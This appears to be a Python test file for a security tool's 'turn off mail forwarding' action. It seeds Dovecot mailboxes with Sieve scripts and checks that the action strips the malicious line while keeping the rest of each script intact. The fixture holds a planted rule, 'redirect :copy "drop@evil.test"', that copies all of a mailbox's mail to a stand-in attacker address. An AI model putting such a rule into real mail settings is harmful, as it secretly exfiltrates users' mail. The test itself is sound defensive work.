# SPDX-License-Identifier: GPL-3.0-or-later
"""kills.py for forwarding that is turned off and on again: each mailbox has the scripts that it is to
have, byte for byte, and the right one is active."""
import os
import shutil

from kills import Item, Run, Service, Work, expect, wait_until

import lab as mail

OURS = "action-center"
# What is taken out of each script, and what of it stays.
OUTSIDE = b'redirect :copy "drop@evil.test";\r\n'
KINDS = (
    b'require ["copy", "fileinto"];\r\nif header :contains "subject" "invoice" {\r\n'
    b'  fileinto "Invoices";\r\n}\r\n%sredirect :copy "colleague@example.test";\r\n',
    b'require "copy";\n# redirect "comment@evil.test";\n%skeep;',
    "require \"copy\"; # ünï “日本語” {99}\n%b".encode(),
    # No UTF-8: such a script comes into a folder by hand only.
    b'require "copy"; # caf\xe9\n%s',
)


class ForwardingItem(Item):
    """A mailbox, or the look at it."""

    @property
    def is_look(self):
        return self.look != 0

    begun_states = frozenset(("replacing", "restoring"))
    undo_states = frozenset(("restored",))


class ForwardingWork(Work):
    item_class = ForwardingItem
    query = Work.query.replace("t.entity ", "t.entity, w.look ")


class ForwardingRun(Run):
    """One action for each mailbox; what a round has undone is there for the next."""

    work_class = ForwardingWork
    server_name = "mail server"
    what = "mailboxes whose forwarding is turned off"
    applied = "done"

    def __init__(self, folder, chance, **wanted):
        self.lab = None
        self.before = {}
        self.digests = {}
        super().__init__(folder, chance, **wanted)

    def make_service(self, folder):
        self.lab = mail.Lab(folder / "lab", users=[f"user{n}@example.test"
                                                   for n in range(self.actions)], messages=0)
        return Service(folder / "service", lab=self.lab)

    def start_servers(self):
        self.lab.start()
        for number, mailbox in enumerate(self.lab.mailboxes):
            self.lay(mailbox, KINDS[number % len(KINDS)] % (OUTSIDE + b"# %d\n" % number))
            if number % 3 == 0:
                with self.lab.sieve(mailbox) as client:
                    client.put(OURS if number % 2 else "holiday", b"stop;")

    def lay(self, mailbox, script):
        """Lays a script into the folder of its owner, past the server, and makes it active."""
        home = self.lab.mail_folder() / mailbox
        folder = home / "sieve"
        folder.mkdir(parents=True)
        (folder / "main.sieve").write_bytes(script)
        (home / ".dovecot.sieve").symlink_to("sieve/main.sieve")
        if os.getuid() == 0:
            for path in (home, folder, folder / "main.sieve"):
                shutil.chown(path, *mail.dovecot.owner_of_mail())

    def stop_servers(self):
        self.lab.discard()

    def server_log(self):
        return self.lab.log

    def crash_server(self):
        self.lab.kill9()
        return self.lab.restart

    def choose(self):
        chosen = list(self.lab.mailboxes)
        self.before = {mailbox: self.read(mailbox) for mailbox in chosen}
        self.chance.shuffle(chosen)
        return chosen

    def propose(self, targets):
        actions = [one["id"] for one in self.service.post_investigation([{
            "type": "turnOffMailForwarding", "verdict": "suspicious", "assets": [mailbox],
            "entity": {"type": "mailbox", "address": mailbox}} for mailbox in targets])["actions"]]
        self.digests = {action: wait_until(
            lambda one=action: self.service.action(one)["targets"].get("digest"), "the look")
                        for action in actions}
        return actions

    def more_of(self, decision, ids):
        if decision != "approve":
            return {}
        return {"targets": [{"actionId": one, "digest": self.digests[one]} for one in ids]}

    def is_applied(self, item, cache):
        link = self.lab.mail_folder() / item.asset / ".dovecot.sieve"
        return link.is_symlink() and os.path.basename(os.readlink(link)).startswith(OURS)

    # --- what must be true ---

    def read(self, mailbox):
        """The name of the active script, and the bytes of each script by name."""
        with self.lab.sieve(mailbox) as client:
            return client.snapshot()

    def check_servers(self, targets, actions, gone, told):
        for mailbox in targets:
            active, scripts = self.before[mailbox]
            if gone:
                ours = f"{OURS}-2" if OURS in scripts else OURS
                scripts = {**scripts, ours: scripts[active].replace(OUTSIDE, b"")}
                active = ours
            expect((active, scripts), self.read(mailbox), f"the scripts of {mailbox}")
        return 0
